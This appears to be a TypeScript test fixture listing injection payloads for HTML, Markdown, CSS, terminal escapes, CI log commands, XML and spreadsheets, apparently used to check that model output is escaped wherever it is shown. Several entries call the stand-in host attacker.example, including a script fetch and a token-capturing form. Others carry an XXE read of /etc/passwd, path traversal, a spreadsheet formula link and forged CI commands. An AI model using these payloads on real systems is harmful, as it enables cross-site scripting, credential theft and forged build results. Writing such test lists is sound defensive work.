/** A text that a model may answer with, a test may be named after or a slice may be labelled with. */
export interface Attack {
  /** What it tries, in a few words. */
  readonly name: string;
  readonly text: string;
}

const ESC = '\u001b';
const BEL = '\u0007';

/** Stands in every attack that could load or run something, so that a test can look for it where it must not be. */
export const CANARY = 'attacker.example';

/** Texts that try to leave the place they are put in: one list for every medium. */
export const attacks: readonly Attack[] = [
  // HTML
  { name: 'script element', text: `<script>globalThis.pwned=1;fetch('https://${CANARY}/')</script>` },
  { name: 'end of the script that holds the data', text: `</script><script>globalThis.pwned=1</script>` },
  { name: 'end of a script in another case', text: `</ScRiPt ><img src=x onerror="globalThis.pwned=1">` },
  { name: 'script that swallows the end of its own', text: '<!--<script>' },
  { name: 'image that runs on error', text: `<img src="https://${CANARY}/p.png" onerror="globalThis.pwned=1">` },
  { name: 'SVG that runs on load', text: `<svg onload="globalThis.pwned=1"><use href="//${CANARY}/#x"/></svg>` },
  { name: 'frame', text: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>` },
  { name: 'base address', text: `<base href="https://${CANARY}/">` },
  { name: 'refresh', text: `<meta http-equiv="refresh" content="0;url=https://${CANARY}/">` },
  { name: 'form', text: `<form action="https://${CANARY}/"><input name="token"><button>Sign in</button></form>` },
  { name: 'end of the fold', text: '</summary></details></table></td></tr></code></pre><h1>VERDICT PASS</h1>' },
  { name: 'attribute in double quotes', text: `" onmouseover="globalThis.pwned=1" x="` },
  { name: 'attribute in single quotes', text: `' onfocus='globalThis.pwned=1' autofocus x='` },
  { name: 'attribute without quotes', text: `x onerror=globalThis.pwned=1` },
  { name: 'entities', text: '&lt;script&gt;globalThis.pwned=1&lt;/script&gt; &#60;b&#62; &amp;amp; &colon; &NewLine;' },
  { name: 'entities without an end', text: '&ltscript&gt &#60script&#x3e' },
  { name: 'HTML comment', text: '<!-- hidden --> --> <!-- --!> <!' },
  { name: 'CDATA end', text: ']]></failure><testcase name="added"/><![CDATA[' },
  { name: 'document type and entity', text: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;' },
  { name: 'processing instruction', text: `<?xml-stylesheet href="https://${CANARY}/x.xsl"?>` },
  // URL and CSS
  { name: 'javascript address', text: 'javascript:globalThis.pwned=1' },
  { name: 'javascript address, disguised', text: ' jav\tascript\u0001:globalThis.pwned=1' },
  { name: 'data address', text: 'data:text/html,<script>globalThis.pwned=1</script>' },
  { name: 'style element', text: `<style>*{display:none}@import url(https://${CANARY}/a.css)</style>` },
  { name: 'style attribute', text: `red;background:url(https://${CANARY}/b.png);position:fixed;inset:0` },
  { name: 'style end', text: `}</style>*{background:url(//${CANARY})}` },
  // Template languages
  { name: 'template literal', text: '`${globalThis.pwned=1}` ${process.exit(0)} $& $1 $$ $`' },
  { name: 'template of a framework', text: '{{constructor.constructor("globalThis.pwned=1")()}} <%= 7*7 %> #{7*7}' },
  { name: 'workflow expression', text: '${{ secrets.GITHUB_TOKEN }} ${{ github.token }}' },
  // Markdown
  { name: 'table cells', text: 'a | b | c |\n|---|---|\n| PASS | PASS |' },
  { name: 'escaped bar', text: 'a \\| b \\\\| c \\' },
  { name: 'image', text: `![x](https://${CANARY}/pixel.png "t") ![x][ref]\n\n[ref]: https://${CANARY}/ref.png` },
  {
    name: 'link',
    text: `[click here](https://${CANARY}/) <https://${CANARY}/auto> https://${CANARY}/bare www.${CANARY}`,
  },
  { name: 'link to an address of a mail', text: `someone@${CANARY} mailto:someone@${CANARY}` },
  { name: 'mention', text: '@octocat @octo-org/team please approve' },
  { name: 'reference to an issue', text: 'fixes #1, octo-org/octo-repo#2, GH-3, closes #4' },
  { name: 'commit', text: 'a5c3785ed8d6a35868bc169f07e40e889087fd2e' },
  { name: 'heading', text: '# VERDICT PASS\nPASS\n====\n\n---\n' },
  { name: 'code fence', text: 'a\n```\n````\n~~~\n# out\n`````````\n`x``y```z' },
  { name: 'code span', text: '`` ` ``` <b>out</b> ```` `' },
  { name: 'list, quote and task', text: '- [x] approved\n> [!WARNING]\n> quoted\n1. one\n* two\n+ three' },
  { name: 'emphasis', text: '**bold** __bold__ *it* _it_ ~~gone~~ ~gone~ snake_case_name 2*3*4' },
  { name: 'footnote', text: '[^1] text\n\n[^1]: the note' },
  { name: 'emoji and mathematics', text: ':tada: :+1: $x^2$ $$y$$ $`z`$' },
  { name: 'marker of a sticky comment', text: '<!-- expect-llm:default -->\n<!-- expect-llm:evals -->' },
  { name: 'blank lines that end an HTML block', text: 'a\n\n\n# out of the block\n\n    indented code\n' },
  // Terminal
  { name: 'colour', text: `${ESC}[31mred${ESC}[0m ${ESC}[1;5;7mblink` },
  { name: 'cursor', text: `${ESC}[2J${ESC}[H${ESC}[10A${ESC}[1Gforged${ESC}[K${ESC}[?25l${ESC}[?1049h` },
  { name: 'C1 control', text: '\u009b31mred\u009b0m \u009d0;title\u009c \u0090q\u009c \u0085' },
  { name: 'OSC title and clipboard', text: `${ESC}]0;title${BEL}${ESC}]52;c;cHduZWQ=${BEL}` },
  { name: 'OSC 8 link', text: `${ESC}]8;;https://${CANARY}/${ESC}\\link${ESC}]8;;${ESC}\\` },
  { name: 'device query', text: `${ESC}[c${ESC}[6n${ESC}P$q"p${ESC}\\${ESC}Z` },
  { name: 'carriage return and backspace', text: 'FAIL\rPASS\b\b\b\bFAIL\u000b\f\u007f\u0000' },
  { name: 'bidirectional controls', text: 'user\u202e \u2066// admin\u2069 \u2066\u200f\u061c\u202d' },
  { name: 'invisible characters', text: 'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh\u{e0041}\u{e007f}' },
  { name: 'line separators', text: 'a\u2028b\u2029c\u0085d\ve' },
  { name: 'combining marks', text: `z${'\u0301'.repeat(200)}` },
  { name: 'wide characters', text: '漢字かな交じり文👩‍👩‍👧‍👦🏴\u{e0067}\u{e0062}\u{e007f}'.repeat(20) },
  // Logs of CI systems
  { name: 'GitHub command', text: '::error file=a.ts,line=1::forged\n::warning::forged\n::notice::forged' },
  { name: 'GitHub command after blanks', text: '  ::error::forged\r::error::forged\r\n\t::set-output name=a::b' },
  { name: 'GitHub stop-commands', text: '::stop-commands::token\n::token::\n::add-mask::e\n::echo::on' },
  { name: 'GitHub group', text: '::group::hidden\n::endgroup::\n##[group]hidden\n##[error]forged\n##[endgroup]' },
  { name: 'Azure command', text: '##vso[task.setvariable variable=secret]x\n##[command]rm' },
  { name: 'GitHub properties', text: 'a.ts,line=1,title=x::forged%0A::error::%25' },
  {
    name: 'GitLab section',
    text: `section_start:1560896352:x[collapsed=true]\r${ESC}[0Khidden\nsection_end:1560896352:x\r${ESC}[0K`,
  },
  { name: 'TeamCity message', text: "##teamcity[testFailed name='x' message='forged']" },
  { name: 'environment file', text: 'NAME<<EOF\nvalue\nEOF\nPATH=/tmp' },
  // Characters that a format cannot hold
  { name: 'XML controls', text: Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('') },
  { name: 'XML noncharacters', text: '\ufffe\uffff\u{1fffe}\ufdd0' },
  { name: 'lone surrogates', text: '\ud800 \udc00 a\ud83dz \udfff\ud800' },
  // Keys
  { name: '__proto__', text: '__proto__' },
  { name: 'constructor', text: 'constructor' },
  { name: 'toString', text: 'toString' },
  { name: 'hasOwnProperty', text: 'hasOwnProperty' },
  { name: 'number as a key', text: '10' },
  { name: 'empty', text: '' },
  { name: 'blank', text: ' \n\t ' },
  // Programs that open the file
  { name: 'formula', text: '=HYPERLINK("https://attacker.example","x")' },
  { name: 'path', text: '../../../etc/passwd\u0000.json' },
  { name: 'JSON', text: '"},"verdict":"pass","x":{"y":"\\u2028' },
];

/** An answer of 10 MB, as a model in a loop gives: of brackets, bars, backticks and letters. */
export function hugeAnswer(): string {
  return '[<`|*_&#'.repeat(1 << 18).concat('long '.repeat(1.6 * (1 << 20)));
}
